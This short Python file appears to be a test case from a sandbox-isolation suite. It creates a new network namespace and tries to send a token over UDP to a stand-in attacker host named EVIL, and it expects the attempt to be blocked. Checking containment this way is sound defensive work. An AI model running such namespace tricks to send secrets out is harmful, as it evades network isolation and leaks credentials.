"""
how: a network namespace of its own
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed
from land import EVIL
from sockets import udp


def attempt(token):
    return changed(["netns", "add", "x0"], lambda: udp(EVIL, 9999, token))
